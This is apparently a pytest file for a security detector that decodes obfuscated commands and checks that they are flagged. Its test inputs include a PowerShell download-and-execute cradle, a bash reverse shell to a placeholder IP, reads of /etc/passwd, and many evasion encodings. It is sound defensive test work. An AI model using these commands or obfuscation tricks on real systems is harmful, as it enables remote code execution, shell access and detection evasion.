"""Encoded commands: every encoding is undone, nested ones too; honest encodings are not held against anyone."""

import base64
import gzip
import time
import zlib

import pytest

from schemas import Alert, Document, Field
from secassist.detectors.encoded import PLUGIN

FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://lab.example/a.ps1')"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def wide(text: str) -> str:
    return b64(text.encode("utf-16-le"))


def signals(text: str):
    return PLUGIN.detect(Document(source="text", body=text)).signals


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        (f"powershell -nop -w hidden -enc {wide(FETCH)}", FETCH),
        (f"pwsh.exe /EncodedCommand '{wide(FETCH)}'", FETCH),
        (f"echo {b64(b'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')} | base64 -d | bash", "/dev/tcp/192.0.2.7/4444"),
        ("echo d2hvYW1p | base64 -d | sh", "whoami"),
        (f"[Convert]::FromBase64String('{b64(gzip.compress(FETCH.encode()))}')", FETCH),
        (f"python -c 'x(zlib.decompress(base64.b64decode(\"{b64(zlib.compress(FETCH.encode()))}\")))'", FETCH),
        (f"DeflateStream FromBase64String('{b64(zlib.compress(FETCH.encode())[2:-4])}')", FETCH),
        (r"printf '\x77\x68\x6f\x61\x6d\x69'", "whoami"),
        (FETCH.encode().hex(), FETCH),
        ("%77%68%6f%61%6d%69%20%2f%61%6c%6c", "whoami /all"),
        (r"\u0065\u0076\u0061\u006c(1)", "eval(1)"),
        ("[char]105+[char]101+[char]120", "iex"),
        ("String.fromCharCode(97,108,101,114,116,40,49,41)", "alert(1)"),
        ("p^o^w^e^r^s^h^e^l^l -c calc", "powershell -c calc"),
        ("I`E`X (n`ew-o`bject net.webclient)", "IEX (new-object net.webclient)"),
        ("&('i'+'ex') ('Down'+'loadSt'+'ring')", "DownloadString"),
        ("(\"{1}{0}\" -f 'ex','i')", "'iex'"),
        ("set a=power&& set b=shell&& %a%%b% -c dir", "powershell -c dir"),
        ("$env:comspec[4,24,25]-join''", "Iex"),
        ("a=who; b=ami; $a$b", "whoami"),
        ("c''at /etc/pas''swd", "cat /etc/passwd"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("-join ('1sp.a/elpmaxe.bal//:ptth'[-1..-24])", "http://lab.example/a.ps1"),
        ("echo '1.2.0.291//:ptth lruc' | rev | sh", "curl http://192.0.2.1"),
    ],
)
def test_hidden_commands_are_shown(text: str, plain: str):
    found = [s for s in signals(text) if s.noteworthy]
    assert any(plain in s.decoded for s in found)
    assert all(s.techniques and s.lines == (1,) and s.severity.rank >= 2 for s in found)


def test_layers_are_unwrapped_to_depth_four():
    text = "whoami /all"
    for _ in range(3):
        text = f"powershell -enc {wide(text)}"
    assert "whoami /all" in [s.decoded for s in signals(text)]
    for _ in range(3):
        text = f"powershell -enc {wide(text)}"
    assert "whoami /all" not in [s.decoded for s in signals(text)]


@pytest.mark.parametrize(
    "text",
    [
        "MIIDdzCCAl+gAwIBAgIEbGxsbDANBgkqhkiG9w0BAQsFADBsMRAwDgYDVQQGEwdVbmtub3duMRAwDgYDVQQIEwdVbmtub3du",
        "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.aW52ZW50ZWQ",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "name=O%27Brien%20says%20hello&city=K%C3%B6ln%20am%20Rhein",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "commit 3b37166ec61459e76e33282dda08f2a9cd698ca7",
        f"note {b64(b'Please find the minutes of the meeting in the shared folder.')}",
        "'Hello, ' + 'world'",
        "echo ${HOME}/bin:$PATH",
        "/usr/local/lib/python3/site-packages/example/module",
        "see `make test` and `make demo`",
        "values = [10, 20, 30, 40, 50, 60, 70, 80]",
    ],
)
def test_honest_encodings_are_not_held_against_anyone(text: str):
    assert [s.decoded for s in signals(text) if s.noteworthy] == []


def test_lines_of_alert_fields_are_named():
    fields = (Field(path="host", value="a"), Field(path="command", value=f"x\npowershell -e {wide('whoami /all')}"))
    found = PLUGIN.detect(Alert(source="json", fields=fields)).signals
    assert found[0].lines == (3,)
    assert found[0].decoded == "whoami /all"
    assert "T1059.001" in found[0].techniques


def test_a_decompression_bomb_is_cut():
    bomb = b64(gzip.compress(b"whoami /all\n" * 4_000_000))
    start = time.process_time()
    found = signals(f"FromBase64String('{bomb[:60_000]}')")
    assert time.process_time() - start < 3
    assert all(len(s.decoded) <= 5_000 for s in found)
